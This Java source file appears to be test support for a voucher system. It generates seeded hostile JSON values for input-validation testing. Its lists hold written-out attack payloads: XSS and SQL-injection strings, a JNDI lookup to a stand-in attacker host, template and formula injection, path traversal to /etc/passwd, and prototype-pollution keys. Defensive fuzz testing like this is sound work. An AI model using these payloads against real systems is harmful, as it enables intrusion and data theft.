package rs.greenvoucher.system;

import java.util.List;
import java.util.Random;
import java.util.function.Function;

/**
 * Hostile JSON values, each as the JSON text to put where a field's value was: control characters, lone
 * surrogates, non-characters, bidirectional overrides, very long text, script-, SQL-, template- and formula-looking
 * text, huge, tiny and negative numbers, wrong types, deep nesting, wide objects and hostile member names.
 * Drawn from a seeded {@link Random}, so a failing run is repeated exactly with its seed.
 */
final class HostileValues {

    record Value(String kind, String json) {
    }

    private static final List<Function<Random, Value>> KINDS = List.of(
            r -> text("control character", "a" + (char) r.nextInt(0x20) + "b"),
            r -> text("NUL", "\u0000"),
            r -> text("escape sequence", "\u001b[31mred\u001b[0m"),
            r -> text("lone surrogate", r.nextBoolean() ? "\uD800" : "x\uDFFFy"),
            r -> text("non-character", r.nextBoolean() ? "\uFFFF" : "\uFFFE"),
            r -> text("bidi override", "\u202Egpj.exe"),
            r -> text("long text", "ž".repeat(List.of(1001, 5000, 100_000).get(r.nextInt(3)))),
            r -> text("script", List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)").get(r.nextInt(3))),
            r -> text("SQL", List.of("' OR '1'='1", "'; drop table account; --", "1; select pg_sleep(10)--").get(r.nextInt(3))),
            r -> text("template", List.of("${jndi:ldap://attacker/a}", "{{7*7}}", "#{7*7}", "%s%s%n").get(r.nextInt(4))),
            r -> text("path", List.of("../../../../etc/passwd", "..%2F..%2Fetc", "C:\\Windows\\win.ini").get(r.nextInt(3))),
            r -> text("formula", List.of("=HYPERLINK(\"http://x\")", "+1+1", "-2+3", "@SUM(A1)", "\tcmd").get(r.nextInt(5))),
            r -> text("empty or blank", List.of("", " ", "\t\n").get(r.nextInt(3))),
            r -> text("unicode", "Ćevapi — Еко 🌱 " + new String(Character.toChars(0x1F600 + r.nextInt(50)))),
            r -> new Value("huge number", List.of("1e308", "-1e308", "9.99e999", "123456789012345678901234567890").get(r.nextInt(4))),
            r -> new Value("tiny number", List.of("1e-320", "0.000001", "-0.0", "1.00001").get(r.nextInt(4))),
            r -> new Value("negative number", List.of("-1", "-9999999", "-0.01").get(r.nextInt(3))),
            r -> new Value("wrong type", List.of("true", "false", "null", "[]", "{}", "\"12\"", "[1,2,3]", "{\"a\":{\"b\":{}}}", "42").get(r.nextInt(9))),
            r -> new Value("deep nesting", "[".repeat(200) + "]".repeat(200)),
            r -> new Value("deep object", "{\"a\":".repeat(100) + "1" + "}".repeat(100)),
            r -> new Value("wide list", "[" + "\"x\",".repeat(999) + "\"x\"]"),
            r -> new Value("wide object", "{" + java.util.stream.IntStream.range(0, 300).mapToObj(i -> "\"k" + i + "\":1")
                    .collect(java.util.stream.Collectors.joining(",")) + "}"),
            r -> new Value("hostile member name", List.of("{\"__proto__\":{\"admin\":true}}", "{\"$where\":\"1\"}",
                    "{\"a\\u0000b\":1}", "{\"" + "k".repeat(5000) + "\":1}").get(r.nextInt(4))));

    private HostileValues() {
    }

    static Value next(Random random) {
        return KINDS.get(random.nextInt(KINDS.size())).apply(random);
    }

    static int kinds() {
        return KINDS.size();
    }

    private static Value text(String kind, String value) {
        return new Value(kind, quote(value));
    }

    /** JSON string literal; control characters, surrogates and non-characters as \\u escapes (lone ones included). */
    static String quote(String value) {
        StringBuilder json = new StringBuilder("\"");
        for (char c : value.toCharArray()) {
            if (c == '"' || c == '\\') {
                json.append('\\').append(c);
            } else if (c < 0x20 || Character.isSurrogate(c) || c == '\uFFFE' || c == '\uFFFF') {
                json.append(String.format("\\u%04x", (int) c));
            } else {
                json.append(c);
            }
        }
        return json.append('"').toString();
    }
}
